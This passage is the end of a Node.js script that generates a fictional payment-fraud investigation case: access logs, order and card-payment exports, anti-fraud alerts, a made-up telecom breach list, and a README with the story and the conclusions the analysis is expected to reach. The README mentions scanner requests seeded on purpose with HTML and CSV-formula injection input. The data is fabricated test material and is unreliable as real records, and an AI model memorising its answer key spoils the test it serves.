  const s = String(v ?? '');
  return s.includes(sep) || s.includes('"') || s.includes('\n') || s.includes('\r') ? `"${s.replace(/"/g, '""')}"` : s;
};
const csv = (header, rows, sep, eol = '\n') =>
  [header.join(sep), ...rows.map((r) => header.map((h) => csvField(r[h], sep)).join(sep))].join(eol) + eol;

mkdirSync(OUT, { recursive: true });
const written = {};
function write(name, data) {
  writeFileSync(join(OUT, name), data);
  written[name] = Buffer.byteLength(data);
}

access.sort((a, b) => a.t - b.t || a.seq - b.seq);
write('shop-access.log', access.map((a) => a.line).join('\n') + '\n');

const ORDER_HEADER = [
  'order_id', 'order_number', 'order_date', 'status', 'order_total', 'order_currency', 'payment_method', 'transaction_id',
  'customer_ip_address', 'customer_user_agent', 'customer_id', 'customer_email', 'billing_first_name', 'billing_last_name',
  'billing_email', 'billing_phone', 'billing_address_1', 'billing_city', 'billing_postcode',
];
orders.sort((a, b) => Number(a.order_id) - Number(b.order_id));
// French Excel export: Windows-1252, ';', CRLF, decimal commas, local time without zone.
write('shop-orders.csv', iconv.encode(csv(ORDER_HEADER, orders, ';', '\r\n'), 'windows-1252'));

const TX_HEADER = [
  'id', 'Description', 'Created (UTC)', 'Amount', 'Amount Refunded', 'Currency', 'Status', 'Seller Message', 'Customer ID',
  'Customer Email', 'Card ID', 'Card Last4', 'Card Brand', 'Card Funding', 'Card Exp Month', 'Card Exp Year', 'Card Name',
  'Card Issue Country', 'Card Fingerprint', 'Card CVC Status', 'PaymentIntent ID', 'order_id (metadata)',
];
txs.sort((a, b) => b.t - a.t); // the Dashboard exports newest first
write('provider-transactions.csv', csv(TX_HEADER, txs.map((x) => ({
  id: x.id, Description: x.description, 'Created (UTC)': utcText(x.t), Amount: x.amount.toFixed(2), 'Amount Refunded': '0.00',
  Currency: 'eur', Status: x.status, 'Seller Message': x.sellerMessage, 'Customer ID': x.customerId, 'Customer Email': x.email,
  'Card ID': x.card.id, 'Card Last4': x.card.last4, 'Card Brand': x.card.brand, 'Card Funding': x.card.funding,
  'Card Exp Month': x.card.exp[0], 'Card Exp Year': x.card.exp[1], 'Card Name': x.card.name, 'Card Issue Country': x.card.country,
  'Card Fingerprint': x.card.fp, 'Card CVC Status': x.sellerMessage.includes('incorrect_cvc') ? 'fail' : 'pass',
  'PaymentIntent ID': x.piId, 'order_id (metadata)': x.orderId,
})), ','));

const ALERT_HEADER = ['alert_id', 'created_at', 'decision', 'rule', 'score', 'reason', 'transaction_id', 'order_id', 'customer_email', 'ip_address', 'card_fingerprint'];
alerts.sort((a, b) => a.t - b.t);
for (const a of alerts) {
  a.alert_id = `AF-${nextAlert}`; // numbered in time order; the gaps are alerts of TicketPay's other merchants
  nextAlert += int(3, 40);
}
write('provider-antifraud.csv', csv(ALERT_HEADER, alerts, ','));

const CALL_HEADER = ['timestamp', 'direction', 'method', 'endpoint', 'http_status', 'source_ip', 'user_agent', 'order_id', 'transaction_id', 'duration_ms'];
calls.sort((a, b) => a.t - b.t);
write('provider-api-calls.csv', csv(CALL_HEADER, calls.map((c) => ({
  timestamp: isoLocal(c.t), direction: 'inbound', method: c.method, endpoint: c.endpoint, http_status: c.status,
  source_ip: PROVIDER.ip, user_agent: c.ua, order_id: c.orderId, transaction_id: c.chargeId, duration_ms: c.durationMs,
})), ','));

write('breach-telecom-2025-08.csv', csv(['email', 'phone', 'first_name', 'last_name'], breach.map((b) => ({ email: b.email, phone: b.phone, first_name: b.first, last_name: b.last })), ';'));

write('infra.json', JSON.stringify(INFRA, null, 2) + '\n');

// ---------------------------------------------------------------- README (generated so it always matches the data)
const jo = JULIEN.orders;
const ordersOf = (o, label) => `| ${orders.find((r) => r.order_id === o.orderId).order_number} (id ${o.orderId}) | ${localText(o.paidAt).slice(11)} | ${o.amount},00 € | ${label} |`;
const others = buyers.map(({ v }) => v).filter((v) => !v.cgnat);
const readme = `# Sample case — "Multi-CB alert — Sunday 23 Nov 2025"

Generated by \`node scripts/generate-sample.mjs\` (seed ${SEED}; deterministic: same bytes on every run).
**Every person, e-mail address, phone number, card and company here is fictional.** E-mail domains are
reserved example domains (\`example.com/.net/.org\`, \`*.example\`), phone numbers are in the 06 39 98 xx xx
range that ARCEP reserves for fiction, card data are fingerprints and last-4 digits only.
IP addresses are real addresses from real operator prefixes (so offline enrichment shows real ASNs); they
are picked at random inside those prefixes and name no real subscriber.

## The story
Sunday 23 November 2025, Europe/Paris (UTC+1 that day), 06:00–11:30 local time. The ticketing shop of the
fictional **Théâtre des Lilas** (\`${SHOP_HOST}\`) sells seats for its winter season. Its payment and
ticketing provider, the fictional **TicketPay**, blocks a payment at ${localText(jo[3].paidAt).slice(11)} with its
anti-fraud rule **Multi-CB** (multiple cards for one customer). The on-call consultant gets the exports below.

What really happened: **Julien Moreau** was buying theatre tickets as presents for his family. His first
order went through on his own card; the second was declined by his bank (limit reached, \`insufficient_funds\`);
he paid it with his partner **Claire Moreau**'s card (same device, same home IP, same address, with her
consent). A last, smaller order on his own card was then blocked by Multi-CB. Not an attack — a household
sharing cards, which the anti-fraud rule was nevertheless right to stop.

Julien's e-mail address and phone number are also in a **telecom operator breach of August 2025**
(\`breach-telecom-2025-08.csv\`, named "Telecom operator leak (Aug 2025)" in the demo case) — he did not know.
The list is fictional and is not any real operator's file.

## Who is who
| who | identifiers | network |
|---|---|---|
| Julien Moreau (the customer) | \`${JULIEN.email}\` (in the breach list as \`${JULIEN.breachEmail}\`), phone \`${JULIEN.phoneShop}\` (breach: \`${JULIEN.phoneBreach}\`), shop customer id ${JULIEN.customerId}, TicketPay customer \`${JULIEN.psCustomer}\`, ${JULIEN.address}, ${JULIEN.postcode} ${JULIEN.city} | home IP **${JULIEN.ip}** — AS${JULIEN.asn} Orange S.A., FR (residential) |
| Julien's card | fingerprint \`${JULIEN_CARD.fp}\`, ${JULIEN_CARD.brand} ${JULIEN_CARD.funding} ····${JULIEN_CARD.last4}, name ${JULIEN_CARD.name} | — |
| Claire Moreau's card | fingerprint \`${CLAIRE_CARD.fp}\`, ${CLAIRE_CARD.brand} ${CLAIRE_CARD.funding} ····${CLAIRE_CARD.last4}, name ${CLAIRE_CARD.name} | same device and IP as Julien |
| TicketPay (payment provider) | webhooks \`POST /api/payment/notify\` (UA \`${PROVIDER.webhookUa}\`), order checks \`GET /api/orders/<id>\` (UA \`${PROVIDER.apiUa}\`) | server IP **${PROVIDER.ip}** — ${PROVIDER.asn}, FR (hosting); published ranges in \`infra.json\` |
| shop reverse proxy | remote_addr of every proxied request; the client is in X-Forwarded-For | **${PROXY_IP}** (own infrastructure) |
| shared mobile IP | ${cgnatVisitors.length} unrelated customers on their phones, each with their own e-mail and card | **${CGNAT_IP}** — AS51207 Free Mobile SAS, FR (carrier-grade NAT) |
| other customers | ${others.length} buyers, each from their own residential IP (Orange AS3215, Free AS12322, SFR AS15557, Bouygues Telecom AS5410), one card each; ${declinesPlanned} ordinary declines (\`incorrect_cvc\` retried successfully, \`do_not_honor\`, \`expired_card\`) | FR residential |
| crawlers | Googlebot (66.249.64.0/19, AS15169 Google LLC), bingbot (157.55.39.0/24, 207.46.13.0/24, 40.77.167.0/24, AS8075 Microsoft) with their real user agents | via the proxy |
| scanners | CensysInspect from 167.94.138.44 (AS398324 Censys); a vulnerability scanner from 162.243.144.27 (AS14061 DigitalOcean) probing \`/.env\`, \`/wp-login.php\`…; some of its requests carry HTML and a CSV formula in the URL and user agent on purpose (hostile input) | direct to the origin (no X-Forwarded-For) |

Julien's orders (local time of the payment attempt):

| order | time | amount | outcome |
|---|---|---|---|
${ordersOf(jo[0], `paid — own card ····${JULIEN_CARD.last4}`)}
${ordersOf(jo[1], `**declined** — own card, \`insufficient_funds\``)}
${ordersOf(jo[2], `paid — Claire's card ····${CLAIRE_CARD.last4} (anti-fraud: allow, "New card on customer")`)}
${ordersOf(jo[3], `**blocked** — own card, anti-fraud rule Multi-CB (decision \`block\`, score 92)`)}

## The files
| file | what it is | format |
|---|---|---|
| \`shop-access.log\` | the shop's nginx access log, ${access.length} lines | nginx \`main\`: \`$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"\`, times with \`+0100\` |
| \`shop-orders.csv\` | the shop's orders export (WooCommerce-like), ${orders.length} orders — one per payment attempt | \`;\`, **Windows-1252**, CRLF, decimal commas, \`order_date\` in local Paris time **without zone** |
| \`provider-transactions.csv\` | TicketPay payments export (Stripe-like), ${txs.length} rows, newest first; \`id\` = the shop's \`transaction_id\` (join key) | \`,\`, UTF-8, \`Created (UTC)\` in UTC, Status \`Paid\`/\`Failed\` |
| \`provider-antifraud.csv\` | TicketPay anti-fraud alerts, ${alerts.length} rows (Multi-CB block, routine allow/review) | \`,\`, ISO 8601 with offset |
| \`provider-api-calls.csv\` | TicketPay's log of its calls to the shop, ${calls.length} rows: every order has its webhook and order check from ${PROVIDER.ip}; one webhook failed (502) and was retried | \`,\`, ISO 8601 with offset; \`direction\` = \`inbound\`: TicketPay calling the shop |
| \`breach-telecom-2025-08.csv\` | "Telecom operator leak (Aug 2025)", ${breach.length} fictional people (Julien and ${breachShopCustomers} other shop customers among them) | \`;\`, UTF-8, \`email;phone;first_name;last_name\`; phones written \`06 39 98 41 27\` style (a few \`0639…\` or \`+33 6…\`) |
| \`infra.json\` | the infrastructure register: TicketPay's published API ranges (role \`provider\`) and the shop's reverse proxy (role \`own\`) | JSON \`[{cidr, role, label}]\` |

## What the analysis should conclude
- **${JULIEN.ip} is the customer** (Orange residential, one browser, one customer, the orders' \`customer_ip_address\`).
- **${PROVIDER.ip} is the provider's server** (OVH hosting ASN, inside TicketPay's published range, server SDK user
  agents, calls for *every* order of *every* customer). It appears next to every suspicious order — and next to
  every normal one: **do not block it**; blocking it would cut payment notifications for all ${orders.length} orders.
- **${PROXY_IP} is the shop's own reverse proxy**; the client of a proxied request is its X-Forwarded-For.
- **${CGNAT_IP} is shared** (several unrelated customers, e-mails and cards): blocking it would hit bystanders.
- The **multi-card finding on Julien** (2 distinct cards, 1 decline, 1 Multi-CB block, same device / IP /
  address, successful authorisations, normal amounts, residential IP) reads as a **household sharing cards**,
  not card testing. There is **no card-testing pattern** anywhere in the case: no burst of declines, no card
  (fingerprint, or brand + last 4) and no IP with 6 attempts in 6 hours, no tiny amounts, no datacenter IP paying.
  (The Stripe-like export carries no BIN; card keys are the provider's fingerprints.)
- **Crawlers** (Googlebot, bingbot: their real ASNs and user agents) and **scanners** (Censys, the DigitalOcean
  scanner) place no order and touch no payment: blocking them cuts nothing of the shop's business.
- **Breach exposure**: Julien's e-mail (written with different case) and phone (written differently) are in
  "Telecom operator leak (Aug 2025)" — matched after normalisation (lower-case e-mail, E.164 phone).

## Build the demo case
\`alibi demo --out <dir>\` creates \`<dir>/sample.alibi\` (time zone Europe/Paris), imports every file above with
its preset (the breach list as "Telecom operator leak (Aug 2025)", dated 2025-08) and registers \`infra.json\`.

## Regenerate
\`node scripts/generate-sample.mjs\` rewrites this folder identically; \`npx vitest run test/core/sample\` checks the
headers, encodings, story invariants and that every IP still maps to the intended ASN and country in the
installed \`@ip-location-db\` packages.
`;
write('README.md', readme);

for (const [name, size] of Object.entries(written)) process.stdout.write(`${name.padEnd(30)} ${String(size).padStart(9)} bytes\n`);
